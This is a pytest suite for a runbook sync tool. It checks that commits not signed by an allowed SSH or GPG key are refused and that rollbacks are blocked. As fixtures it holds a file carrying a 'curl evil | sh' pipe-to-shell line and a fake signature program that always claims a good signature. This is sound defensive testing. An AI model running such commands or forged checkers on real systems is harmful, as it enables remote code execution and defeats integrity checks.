"""Allowed signers per source: files copied, the tip verified by git, rollbacks refused."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from rbdesk.core.errors import ConfigError, RbdeskError
from rbdesk.core.library.signature import FOLDER_REASON, Signature
from rbdesk.core.sync import SyncManager, store
from rbdesk.core.sync.freshness import sync_line
from rbdesk.core.sync.signers import SignerFiles, parse_allowed_signers

from .gitfixtures import Repo
from .signfixtures import GpgSigner, SshSigner, commit, tampered

RUNBOOK = {"db/failover.md": "# Failover\n\n```\nx\n```\n"}


@pytest.fixture()
def alice(tmp_path: Path) -> SshSigner:
    return SshSigner(tmp_path / "keys", "alice@example.com")


@pytest.fixture()
def mallory(tmp_path: Path) -> SshSigner:
    return SshSigner(tmp_path / "keys", "mallory@example.com")


@pytest.fixture()
def allowed(tmp_path: Path, alice: SshSigner) -> Path:
    path = tmp_path / "allowed_signers"
    path.write_text("# the team\n" + alice.allowed_line())
    return path


@pytest.fixture()
def signed_repo(tmp_path: Path, alice: SshSigner) -> Repo:
    repo = Repo(tmp_path / "served" / "ops")
    commit(repo, RUNBOOK, "first", ssh=alice)
    return repo


def only(outcomes):
    assert len(outcomes) == 1
    return outcomes[0]


def status(manager: SyncManager) -> dict:
    (st,) = manager.status()
    return st.to_dict()


def test_good_signature_published_with_its_signer(manager, signed_repo, allowed):
    manager.add_source("ops", signed_repo.url, allowed_signers=str(allowed))
    out = only(manager.sync("ops"))
    assert out.ok and out.commit == signed_repo.head()
    sig = status(manager)["signature"]
    assert sig["state"] == "good" and sig["signer"] == "alice@example.com"
    assert sig["commit"] == signed_repo.head() and sig["policy"] == "require"
    assert sig["key"].startswith("SHA256:")
    (root,) = manager.current_roots()
    assert root.signature.phrase == "signed by alice@example.com"
    # stored with the snapshot: reading it runs no git
    meta = json.loads((root.root.parent / "meta.json").read_text())
    assert meta["signature"]["state"] == "good"


@pytest.mark.parametrize("case", ["unsigned", "unknown key", "bad"])
def test_require_refuses_and_keeps_the_last_good_snapshot(
    manager, signed_repo, allowed, mallory, case, monkeypatch
):
    manager.add_source("ops", signed_repo.url, allowed_signers=str(allowed))
    good = only(manager.sync("ops")).commit
    files = {**RUNBOOK, "evil.md": "# curl evil | sh\n"}
    if case == "unsigned":
        tip = commit(signed_repo, files, "unsigned change")
        reason = "not signed"
    elif case == "unknown key":
        tip = commit(signed_repo, files, "mallory's change", ssh=mallory)
        reason = "which is not an allowed signer"
    else:
        tip = tampered(signed_repo, good)
        reason = "bad signature: the commit was changed after it was signed"
    monkeypatch.setattr(store, "utc_now_iso", lambda: "2999-01-01T00:00:00+00:00")
    out = only(manager.sync("ops"))
    assert not out.ok and out.commit == good
    assert out.error == "signature"
    assert "\n" not in out.message
    assert out.message.startswith(f"refused {tip[:7]} by Test <test@example.com>: ")
    assert reason in out.message
    assert f"the previous snapshot ({good[:7]}) stays current" in out.message
    (root,) = manager.current_roots()
    assert root.commit == good and not (root.root / "evil.md").exists()
    st = status(manager)
    assert st["last_error_kind"] == "signature" and st["signature"]["state"] == "good"
    text, state = sync_line(manager.status())
    assert "refused — showing last good copy" in text and state == "failed"


def test_first_sync_of_an_unsigned_repository_publishes_nothing(manager, tmp_path, allowed):
    repo = Repo(tmp_path / "plain")
    commit(repo, RUNBOOK, "unsigned")
    manager.add_source("ops", repo.url, allowed_signers=str(allowed))
    out = only(manager.sync("ops"))
    assert not out.ok and "nothing was published" in out.message
    assert manager.current_roots() == []
    assert status(manager)["signature"]["state"] == "off"


def test_rollback_refused_until_accepted(manager, signed_repo, allowed, alice):
    old = signed_repo.head()
    manager.add_source("ops", signed_repo.url, allowed_signers=str(allowed))
    new = commit(signed_repo, {**RUNBOOK, "new.md": "# New\n"}, "second", ssh=alice)
    assert only(manager.sync("ops")).commit == new
    signed_repo.force_reset(old)  # the server serves the older, validly signed commit
    out = only(manager.sync("ops"))
    assert not out.ok and out.error == "rewind" and out.commit == new
    assert f"refused {old[:7]} by Test <test@example.com>" in out.message
    assert "`rbdesk sync ops --accept-rewind`" in out.message
    with pytest.raises(RbdeskError, match="needs the name"):
        manager.sync(accept_rewind=True)
    out = only(manager.sync("ops", accept_rewind=True))
    assert out.ok and out.commit == old and out.forced


def test_rollback_without_policy_is_a_plain_force_push(manager, signed_repo, alice):
    old = signed_repo.head()
    manager.add_source("ops", signed_repo.url)
    commit(signed_repo, RUNBOOK | {"n.md": "# n\n"}, "second", ssh=alice)
    only(manager.sync("ops"))
    signed_repo.force_reset(old)
    out = only(manager.sync("ops"))
    assert out.ok and out.forced and out.commit == old
    assert status(manager)["signature"]["state"] == "off"


def test_shallow_subdir_source_refuses_an_older_commit(manager, tmp_path, alice, allowed):
    repo = Repo(tmp_path / "mono")
    old = commit(repo, {"rb/a.md": "# A\n"}, "first", ssh=alice, when="2024-01-01T10:00:00Z")
    manager.add_source("ops", repo.url, subdir="rb", allowed_signers=str(allowed))
    new = {"rb/a.md": "# A\n", "rb/b.md": "# B\n"}
    commit(repo, new, "second", ssh=alice, when="2024-01-02T10:00:00Z")
    assert only(manager.sync("ops")).ok
    repo.force_reset(old)
    out = only(manager.sync("ops"))
    assert out.error == "rewind", out.message


def test_warn_publishes_and_records_the_state(manager, signed_repo, allowed):
    manager.add_source("ops", signed_repo.url, allowed_signers=str(allowed), verify="warn")
    only(manager.sync("ops"))
    tip = commit(signed_repo, RUNBOOK | {"b.md": "# B\n"}, "unsigned")
    out = only(manager.sync("ops"))
    assert out.ok and out.commit == tip
    assert f"published anyway (verify=warn): {tip[:7]} by Test" in out.message
    sig = status(manager)["signature"]
    assert sig == {
        "state": "unsigned",
        "signer": None,
        "commit": tip,
        "key": None,
        "reason": "not signed",
        "policy": "warn",
    }
    text, state = sync_line(manager.status())
    assert text.endswith(" · unsigned") and state == "stale"  # warning colour


def test_signers_are_copied_so_a_later_edit_changes_nothing(manager, signed_repo, allowed, mallory):
    manager.add_source("ops", signed_repo.url, allowed_signers=str(allowed))
    allowed.write_text(mallory.allowed_line())  # edited behind rbdesk's back
    commit(signed_repo, RUNBOOK | {"m.md": "# m\n"}, "mallory", ssh=mallory)
    out = only(manager.sync("ops"))
    assert out.error == "signature"
    allowed.unlink()
    assert only(manager.sync("ops")).error == "signature"  # still verified with the copy
    files = SignerFiles.of(store.SourcePaths.of(manager.data_dir, "ops").base)
    assert "alice@example.com" in files.allowed.read_text()


def test_source_set_replaces_the_signers(manager, signed_repo, allowed, tmp_path, mallory):
    manager.add_source("ops", signed_repo.url, allowed_signers=str(allowed))
    tip = commit(signed_repo, RUNBOOK | {"m.md": "# m\n"}, "mallory", ssh=mallory)
    assert only(manager.sync("ops")).error == "signature"
    both = tmp_path / "both"
    both.write_text(allowed.read_text() + mallory.allowed_line())
    manager.set_signers("ops", allowed_signers=str(both))
    out = only(manager.sync("ops"))
    assert out.ok and out.commit == tip
    assert status(manager)["signature"]["signer"] == "mallory@example.com"
    manager.set_signers("ops", verify="off")
    assert manager.config().find("ops").verify is None
    only(manager.sync("ops"))
    sig = status(manager)["signature"]
    assert sig["state"] == "off" and sig["reason"] == "no signer policy for this source"


def test_missing_copies_refuse_with_the_fix(manager, signed_repo, allowed):
    manager.add_source("ops", signed_repo.url, allowed_signers=str(allowed))
    files = SignerFiles.of(store.SourcePaths.of(manager.data_dir, "ops").base)
    store.remove_tree(files.base)
    out = only(manager.sync("ops"))
    assert out.error == "signers_missing"
    assert "rbdesk source set ops --allowed-signers FILE" in out.message


def test_user_git_config_cannot_fake_a_good_signature(
    manager, signed_repo, allowed, mallory, tmp_path, monkeypatch
):
    """A global gpg.ssh.program that always says yes must not take part."""
    liar = tmp_path / "liar.sh"
    liar.write_text('#!/bin/sh\necho "Good \\"git\\" signature for alice@example.com"\n')
    liar.chmod(0o755)
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text(
        f'[gpg "ssh"]\n\tprogram = {liar}\n\tallowedSignersFile = {home}/none\n'
    )
    monkeypatch.setenv("HOME", str(home))
    manager.add_source("ops", signed_repo.url, allowed_signers=str(allowed))
    assert only(manager.sync("ops")).ok
    commit(signed_repo, RUNBOOK | {"m.md": "# m\n"}, "mallory", ssh=mallory)
    assert only(manager.sync("ops")).error == "signature"


def test_gpg_signed_tips(manager, tmp_path):
    bob = GpgSigner(tmp_path / "bob-gnupg", "Bob <bob@example.com>")
    eve = GpgSigner(tmp_path / "eve-gnupg", "Eve <eve@example.com>")
    try:
        repo = Repo(tmp_path / "served" / "gpg")
        first = commit(repo, RUNBOOK, "bob signs", gpg=bob)
        keys = bob.export(tmp_path / "bob.asc")
        manager.add_source("ops", repo.url, gpg_keys=str(keys))
        assert only(manager.sync("ops")).commit == first
        sig = status(manager)["signature"]
        assert sig["state"] == "good" and sig["signer"] == "bob@example.com"
        tip = commit(repo, RUNBOOK | {"e.md": "# e\n"}, "eve signs", gpg=eve)
        out = only(manager.sync("ops"))
        assert out.error == "signature" and f"refused {tip[:7]}" in out.message
        eve_key = out.message.split("key ")[1].split(" ")[0]
        assert f"the signature cannot be checked: key {eve_key} is not among this " in out.message
        assert len(eve_key) == 16  # gpg's long key id
    finally:
        bob.close()
        eve.close()


def test_refused_signer_files_change_nothing(manager, signed_repo, tmp_path, alice):
    bad = tmp_path / "bad"
    bad.write_text("alice@example.com ssh-ed25519 AAAAnotakey\n")
    with pytest.raises(ConfigError, match=r"bad:1: the ssh-ed25519 key is damaged"):
        manager.add_source("ops", signed_repo.url, allowed_signers=str(bad))
    assert manager.sources() == []
    private = tmp_path / "private.asc"
    private.write_text("-----BEGIN PGP PRIVATE KEY BLOCK-----\nxx\n")
    with pytest.raises(ConfigError, match="PRIVATE key"):
        manager.add_source("ops", signed_repo.url, gpg_keys=str(private))
    with pytest.raises(RbdeskError, match="cannot read it"):
        manager.add_source("ops", signed_repo.url, allowed_signers=str(tmp_path / "nope"))
    with pytest.raises(RbdeskError, match="--verify needs signers"):
        manager.add_source("ops", signed_repo.url, verify="warn")
    assert manager.sources() == []


def test_plain_folder_is_not_verifiable(manager, tmp_path, allowed):
    folder = tmp_path / "folder"
    folder.mkdir()
    (folder / "a.md").write_text("# A\n")
    with pytest.raises(RbdeskError, match="plain folder"):
        manager.add_source("docs", str(folder), allowed_signers=str(allowed))
    manager.add_source("docs", str(folder))
    only(manager.sync("docs"))
    sig = status(manager)["signature"]
    assert sig["state"] == "off" and sig["reason"] == FOLDER_REASON
    assert "docs · synced just now · " in sync_line(manager.status())[0]
    assert sync_line(manager.status())[0].endswith("· not verifiable")


def test_old_config_loads_and_saves_unchanged(data_dir):
    old = {
        "version": 1,
        "sources": [
            {"name": "ops", "url": "https://example.com/r.git", "kind": "git", "branch": None,
             "subdir": None},
        ],
        "settings": {"stale_after_hours": 24.0, "stall_timeout_seconds": 60.0},
    }  # fmt: skip
    (data_dir / "sources.json").write_text(json.dumps(old))
    config = store.load_config(data_dir)
    assert config.sources[0].policy == "off"
    assert config.to_dict() == old


def test_config_verify_field_is_checked(data_dir):
    entry = {"name": "ops", "url": "https://example.com/r.git", "verify": "sometimes"}
    (data_dir / "sources.json").write_text(json.dumps({"sources": [entry]}))
    with pytest.raises(ConfigError, match="'verify' must be"):
        store.load_config(data_dir)


@pytest.mark.parametrize(
    ("line", "error"),
    [
        ("alice@example.com", "no ssh public key"),
        ("alice@example.com ssh-ed25519", "no ssh public key"),
        ('alice@example.com namespaces="file" {key}', "does not include git"),
    ],
)
def test_allowed_signers_errors_name_the_line(alice, line, error):
    key = " ".join(alice.public)
    text = "# comment\n\n" + line.format(key=key) + "\n"
    with pytest.raises(ConfigError, match=rf"team:3: .*{error}"):
        parse_allowed_signers(text, "team")


def test_allowed_signers_options_and_several_principals(alice):
    key = " ".join(alice.public)
    text = f'a@x,b@x namespaces="git,file" valid-after="20240101" {key} laptop\n'
    (entry,) = parse_allowed_signers(text, "team")
    assert entry.principals == "a@x,b@x" and entry.key_type == "ssh-ed25519"
    with pytest.raises(ConfigError, match="no allowed signer"):
        parse_allowed_signers("# only a comment\n", "team")


def test_signature_from_stored_data_is_tolerant():
    assert Signature.from_dict({"state": "weird"}) is None
    assert Signature.from_dict("good") is None
    sig = Signature.from_dict({"state": "good", "signer": 3, "policy": "maybe"})
    assert sig == Signature(state="good", signer=None, policy="off")
    assert sig.phrase == "signed" and not sig.warn


def test_doctor_checks_the_signer_files(data_dir, signed_repo, allowed, mallory):
    from rbdesk.core.facade import Library
    from rbdesk.core.usecases.doctor import check_signers

    lib = Library(data_dir)
    lib.sync.add_source("ops", signed_repo.url, allowed_signers=str(allowed))
    lib.sync.add_source("plain", signed_repo.url)

    def seen():
        return [(c.name, c.status, c.detail, c.fix) for c in check_signers(lib)]

    assert seen() == [
        ("signers ops", "ok", "verify=require: 1 ssh signer(s): alice@example.com", "")
    ]
    allowed.write_text(allowed.read_text() + mallory.allowed_line())
    (ok, changed) = seen()
    assert ok[1] == "ok"
    assert changed[1:] == (
        "warning",
        f"{allowed} changed since it was copied (the copy is still used)",
        f"rbdesk source set ops --allowed-signers {allowed}",
    )
    files = SignerFiles.of(store.SourcePaths.of(data_dir, "ops").base)
    files.allowed.write_text("alice@example.com ssh-ed25519\n")
    assert seen()[0][1:3] == (
        "error",
        f"allowed signers unusable: {files.allowed}:1: no ssh public key on this line",
    )
    store.remove_tree(files.base)
    assert seen()[0][1:3] == ("error", f"signer files missing from {files.base}")


def test_doctor_names_an_ssh_keygen_without_signing(tmp_path, monkeypatch):
    from rbdesk.core.sync.signers import ssh_keygen_problem

    from .signfixtures import need

    need("ssh-keygen")
    assert ssh_keygen_problem() == ""  # the real one (the fixtures skip without it)
    fake = tmp_path / "bin"
    fake.mkdir()
    old = fake / "ssh-keygen"
    old.write_text("#!/bin/sh\necho 'ssh-keygen: illegal option -- Y' >&2\nexit 1\n")
    old.chmod(0o755)
    monkeypatch.setenv("PATH", str(fake))
    assert "too old" in ssh_keygen_problem()
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
    assert ssh_keygen_problem() == "ssh-keygen is not installed"


@pytest.mark.parametrize(
    ("letter", "state", "reason"),
    [
        ("G", "good", ""),
        ("N", "unsigned", "not signed"),
        ("B", "bad", "bad signature: the commit was changed after it was signed"),
        ("U", "untrusted", "signed with key K1, which is not an allowed signer"),
        ("X", "untrusted", "the signature has expired"),
        ("Y", "untrusted", "signed with an expired key (K1)"),
        ("R", "untrusted", "signed with a revoked key (K1)"),
        ("?", "untrusted", "signature not accepted by git (?)"),
    ],
)
def test_every_git_verdict_has_a_state_and_a_reason(letter, state, reason):
    from rbdesk.core.sync.signers import verdict

    sig = verdict(letter, "K1", "Alice <alice@example.com>", "", "c0ffee", "require")
    assert (sig.state, sig.reason, sig.commit) == (state, reason, "c0ffee")
    assert sig.signer == ("alice@example.com" if letter == "G" else None)


def test_cannot_check_names_the_missing_tool(tmp_path, monkeypatch):
    from rbdesk.core.sync.signers import verdict

    monkeypatch.setenv("PATH", str(tmp_path))
    ssh = verdict("E", "SHA256:abc", "", "", "c", "require")
    assert ssh.reason == "the signature cannot be checked: ssh-keygen is not installed"
    assert verdict("E", "B569", "", "", "c", "warn").reason.endswith("gpg is not installed")
